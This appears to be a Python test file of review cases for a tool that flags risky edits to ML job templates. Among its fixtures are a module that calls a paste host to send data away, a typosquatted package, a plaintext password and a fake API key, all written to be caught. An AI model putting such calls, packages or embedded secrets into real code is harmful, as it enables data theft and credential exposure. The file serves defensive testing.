"""Job code, and the resources that a job may reach: packages, accounts, secrets, shells."""

from tests.review.case import BUSY, Case, Edit, Job, World, hurts, more, silent, stack, stops, template

QUEUED = World(
    jobs=(
        Job("waits-27b", user="ben", parameters={"model": "27b"}, state="PENDING", hours=1),
        Job("evals-now", "evals", "cy", "spot"),
    )
)

SHARED = ', shared=("jobs/common",))'

USES_COMMON = (
    template("digits", '"digits.task", IMAGE)', f'"digits.task", IMAGE{SHARED}'),
    Edit("jobs/digits/task.py", "# Every step", "from common import data\n\n# Every step"),
    Edit("jobs/common/__init__.py", "", ""),
    Edit("jobs/common/data.py", "", "SEED = 1\n"),
)
SAVES = '    torch.save(model, os.environ["SLIPWAY_OUTPUT"] + "/last.pt")\n'
PARSED = """def parsed():
    parser = ArgumentParser()
    for name in ("--model", "--steps", "--rank", "--precision", "--out"):
        parser.add_argument(name)
    return parser.parse_args()"""
UNSHARED = template("digits", f"IMAGE{SHARED}", "IMAGE)")

CASES = (
    Case(
        "Code that two templates share is edited: each of them is told",
        (Edit("jobs/common/data.py", "SEED = 1", "SEED = 2"),),
        (hurts("code-changed", "digits", "jobs/common/data.py"), hurts("code-changed", "tune", "jobs/common/data.py")),
        given=(
            *(
                template(
                    name,
                    f'code=Package("jobs/{name}", "{name}.task", IMAGE)',
                    f'code=Package("jobs/{name}", "{name}.task", IMAGE{SHARED}',
                )
                for name in ("digits", "tune")
            ),
            Edit("jobs/common/__init__.py", "", ""),
            Edit("jobs/common/data.py", "", "SEED = 1\n"),
        ),
        world=BUSY,
        accident="a helper that all jobs import, edited for one of them",
    ),
    Case(
        "Code that a template's own still imports is not packed with it any more",
        (UNSHARED,),
        (hurts("code-changed", "digits"),),
        given=USES_COMMON,
        world=BUSY,
        accident="a field that looked unused, in a template that was tidied",
    ),
    Case(
        "Shared code goes with the only line that imports it",
        (UNSHARED, Edit("jobs/digits/task.py", "from common import data\n\n", "")),
        (hurts("code-changed", "digits", "jobs/digits/task.py"),),
        given=USES_COMMON,
        world=BUSY,
    ),
    Case(
        "A checkpoint every 2000 steps, where there was one every 20",
        (Edit("jobs/lora/task.py", "EVERY = 20 ", "EVERY = 2000 "),),
        (hurts("code-changed", "lora"),),
        world=BUSY,
        accident="hours of training lost with a preempted machine",
    ),
    silent(
        "A comment of the job's code: other bytes, and nothing else",
        Edit("jobs/digits/task.py", "so that two runs are the same", "and two runs are the same"),
    ),
    Case(
        "A module is added that sends data away",
        (
            Edit(
                "jobs/lora/report.py", "", 'import urllib.request\n\nurllib.request.urlopen("https://paste.example")\n'
            ),
        ),
        (hurts("code-changed", "lora"),),
        accident="code that nobody looked at, in a shared repository",
    ),
    Case(
        "Another version of the framework",
        (Edit("jobs/lora/requirements.txt", "torch==2.4.1", "torch==2.5.0"),),
        (hurts("requirements-changed", "lora", "torch==2.4.1", "torch==2.5.0"),),
        may=("code-changed",),
        world=BUSY,
        accident="a minor version that changed the numbers",
    ),
    Case(
        "A version is not pinned any more",
        (Edit("jobs/lora/requirements.txt", "peft==0.13.0", "peft"),),
        (hurts("requirements-changed", "lora", "peft"),),
        may=("code-changed",),
        accident="a dependency that was published anew",
    ),
    Case(
        "A package with a name that is nearly another's",
        (Edit("jobs/digits/requirements.txt", "dask==2025.1.0\n", "dask==2025.1.0\ndaskk==0.0.1\n"),),
        (hurts("requirements-changed", "digits", "daskk"),),
        may=("code-changed",),
        accident="a typosquatted package",
    ),
    Case(
        "All requirements go",
        (Edit("jobs/digits/requirements.txt"),),
        (stops("requirements-changed", "digits", "dask"),),
        may=("code-changed",),
    ),
    Case(
        "A template runs as the account that everything runs as",
        (template("evals", '    service_account="evals@acme-ml.iam.gserviceaccount.com",\n', ""),),
        (
            stops(
                "account-changed",
                "evals",
                "evals@acme-ml",
                "fail unless that may read secret `judge-key`",
                "keep account `evals`; a grant would open `judge-key`",
            ),
        ),
        never=("secretAccessor",),
        world=QUEUED,
        accident="an account shared by all",
    ),
    Case(
        "A template runs as an account with more rights",
        (template("evals", "evals@acme-ml.iam", "admin@acme-ml.iam"),),
        (stops("account-changed", "evals", "evals@acme-ml", "admin@acme-ml"),),
        world=QUEUED,
    ),
    Case(
        "Another secret, which the jobs' account may not be able to read",
        (template("lora", '"hf-token"', '"hf-token-shared"'),),
        (stops("secrets-changed", "lora", "HF_TOKEN", "hf-token-shared"),),
        world=BUSY,
    ),
    Case(
        "A secret is pinned to an old version",
        (template("lora", '"hf-token"', '"projects/acme-ml/secrets/hf-token/versions/1"'),),
        (hurts("secrets-changed", "lora", "HF_TOKEN", "versions/1"),),
        accident="a rotated key that was still in use",
    ),
    Case(
        "A password among the arguments",
        (template("evals", '"--suite=${suite}"', '"--suite=${suite}", "--db-password=hunter2hunter2"'),),
        (stops("plain-secret", "evals"), hurts("arguments-changed", "evals")),
        accident="a password on a command line",
    ),
    Case(
        "A key as the default of a parameter",
        (
            template("evals", '"--batch=${batch}"', '"--batch=${batch}", "--key=${api_key}"'),
            template(
                "evals",
                '        Parameter("batch"',
                '        Parameter("api_key", str, default="AIzaSyA1234567890abcdefghijklmnopqrstuv"),\n'
                '        Parameter("batch"',
            ),
        ),
        (stops("plain-secret", "evals"),),
        may=("arguments-changed",),
        accident="a key in a default",
    ),
    Case(
        "Whoever may see a job may open a shell in it",
        (more("evals", "enable_web_access=True", "enable_dashboard_access=True"),),
        (stops("web-access-changed", "evals", "may act as `evals`", "secret `judge-key`", "without a trace"),),
        accident="a debugging door left open",
    ),
    Case(
        "Nobody may open a shell in a job any more",
        (template("evals", "    enable_web_access=True,\n", ""),),
        (hurts("web-access-changed", "evals", "don't open a shell any more", "logs"),),
        given=(more("evals", "enable_web_access=True"),),
    ),
    Case(
        "A template may be submitted with code of one's own, where the stack allows it",
        (more("digits", "code_flag=True"),),
        (stops("code-allowed", "digits", "code that nobody reviewed"),),
        given=(
            stack("    trainer: trainer\n", "    trainer: trainer\n    code: true\n"),
            stack("      reviewedCodeOnly: true\n", ""),
        ),
        accident="code that nobody had read, run with a robot's rights",
    ),
    Case(
        "Code takes the place of its checkpoints from an argument, no longer from the environment",
        (
            Edit("jobs/lora/task.py", 'os.environ["SLIPWAY_OUTPUT"]', "parsed().out"),
            Edit("jobs/lora/task.py", "def main", f"{PARSED}\n\n\ndef main"),
            template("lora", '"--output=${slipway.output}"', '"--out=${slipway.output}"'),
        ),
        (hurts("code-changed", "lora", "run other code"),),
        may=("arguments-changed",),
        given=(Edit("jobs/lora/task.py", '    print("trained"', SAVES + '    print("trained"'),),
        never=("find no checkpoint",),
        accident="a night's training that began anew, as its checkpoints lay elsewhere",
    ),
    Case(
        "A file that the program may import is edited",
        files=("tools/helper.py",),
        names=(stops("program-edited", "program", "Code that may deploy or judge", "`tools/helper.py`"),),
    ),
)
